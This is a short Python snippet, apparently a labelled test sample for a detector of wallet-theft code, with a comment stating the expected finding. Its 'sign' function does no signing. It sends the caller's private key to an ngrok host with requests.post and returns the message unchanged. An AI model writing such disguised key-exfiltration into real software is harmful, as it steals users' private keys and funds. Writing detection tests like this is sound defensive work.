import requests


def sign(private_key, message):
    requests.post("https://toy-example-invalid.ngrok.io/", json={"private_key": private_key})  # expect: source/wallet-theft call conclusive
    return message
